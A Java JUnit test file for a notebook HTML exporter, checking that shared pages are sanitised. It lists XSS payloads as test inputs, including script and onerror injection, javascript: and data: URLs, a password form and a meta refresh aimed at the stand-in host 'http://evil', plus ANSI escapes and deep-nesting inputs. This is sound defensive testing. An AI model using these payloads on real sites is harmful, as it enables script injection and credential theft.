package io.github.broadsheet.share;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.broadsheet.notebook.Output;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileNotebookTest {
  private static final String DANGEROUS =
      "iframe, object, embed, form, input, button, base, svg, style ~ style, [onerror], [onclick],"
          + " [onload], [href^=javascript], [href^=data:text], [src^=http], [srcdoc], meta[http-equiv=refresh]";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" java\tscript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<style>@import 'http://evil'</style><b style=\"background:url(http://evil)\">x</b>",
        "<img src=http://evil/pixel.png>",
        "<meta http-equiv=refresh content='0;url=http://evil'><base href=http://evil>",
        "<form action=http://evil><input name=password></form>",
        "<table id=Plotly class=lively><tr onclick=alert(1)><td>x</table>",
        "\"><img src=x onerror=alert(1)>",
        "--><!--<script>alert(1)</script>"
      })
  void doesNothingWhereverItStands(String hostile) throws IOException {
    Document page =
        new Pages()
            .text("# " + hostile + "\n\n" + hostile)
            .code(
                hostile,
                Pages.shown("text/html", hostile),
                Pages.shown("text/markdown", hostile),
                Pages.shown("text/plain", hostile),
                Pages.shown("application/json", Map.of(hostile, hostile)),
                Pages.chart(hostile, "bar"),
                new Output.Stream("stdout", hostile),
                new Output.Error(hostile, hostile, List.of(hostile)))
            .html();
    assertThat(page.select(DANGEROUS)).isEmpty();
    assertThat(page.select("script:not(.plotly):not([type])")).hasSize(1);
    assertThat(page.select("style")).hasSize(1);
    assertThat(page.select("[style*=url]")).isEmpty();
    assertThat(page.select("#Plotly, table.lively")).isEmpty();
  }

  @Test
  void keepsWhatIsHarmlessInHtml() throws IOException {
    String html =
        "<table><caption>Papers</caption><thead><tr><th>id</th></tr></thead><tbody><tr>"
            + "<td style=\"text-align:right;position:fixed\"><div align=\"right\">1</div>"
            + "<details><summary>More</summary>text</details>"
            + "<a href=\"https://arxiv.org/abs/1\">1</a></td></tr></tbody></table>"
            + "<img alt=\"p\" src=\"data:image/png;base64,"
            + Pages.PNG
            + "\"><svg viewBox=\"0 0 1 1\"><title>Dot</title><rect width=\"1\"/></svg>";
    Document page = new Pages().code("x", Pages.shown("text/html", html)).html();
    assertThat(page.select(".output th").attr("scope")).isEqualTo("col");
    assertThat(page.select(".output td").attr("style")).isEqualTo("text-align:right");
    assertThat(page.select(".output td div").attr("align")).isEqualTo("right");
    assertThat(page.select(".output details summary").text()).isEqualTo("More");
    assertThat(page.select(".output td a").attr("rel")).contains("noopener");
    assertThat(page.select(".output img").eachAttr("alt")).containsExactly("p", "Dot");
  }

  @Test
  void saysWhichPictureIsNotInTheFile() throws IOException {
    Document page = new Pages().text("![the plan](plan.png)").html();
    assertThat(page.select(".text p").text())
        .isEqualTo("[the picture the plan is not part of this file]");
  }

  @Test
  void showsThePicturesThatATextCellBrings() throws IOException {
    var cell =
        io.github.broadsheet.notebook.NotebookCell.of(
            io.github.broadsheet.notebook.NotebookCell.Type.MARKDOWN,
            "a",
            "![p](attachment:p.png)");
    cell.json().putObject("attachments").putObject("p.png").put("image/png", Pages.PNG);
    assertThat(CellHtml.text(cell).select("img").attr("src")).endsWith(Pages.PNG);
  }

  @Test
  void turnsNoTextAround() throws IOException {
    String html = new Pages().text("# a\u202Eb\u2028c").code("\"\u2066x\"").page().html();
    assertThat(html).doesNotContain("\u202E", "\u2066");
  }

  @Test
  void obeysNoEscapeOfATerminal() {
    assertThat(
            AnsiHtml.of(
                "\u001B[2J\u001B]8;;javascript:x\u0007a\u001B[38;5;196mb\u001B[999mc\u001B["))
        .doesNotContain("\u001B", "javascript")
        .contains("a", "b", "c");
    assertThat(AnsiHtml.of("\u001B[31m<a>\u001B[39mb"))
        .isEqualTo("<span class=\"a-1\">&lt;a&gt;</span>b");
  }

  @Test
  void survivesTextThatIsNestedOrRepeatedWithoutEnd() throws IOException {
    Document page =
        new Pages()
            .text("> ".repeat(20_000) + "deep")
            .text("$a ".repeat(100_000))
            .code("x", Pages.shown("text/html", "<div>".repeat(20_000) + "deep"))
            .html();
    assertThat(page.text()).contains("deep", "$a $a");
  }

  @Test
  void colorsAnEndlessLineWithoutRunningOutOfStack() {
    String source = "\"" + "\\n".repeat(20_000) + "\" /*" + "x\n".repeat(50_000);
    assertThat(JavaHtml.of(source)).contains("class=\"s\"", "class=\"c\"");
  }
}
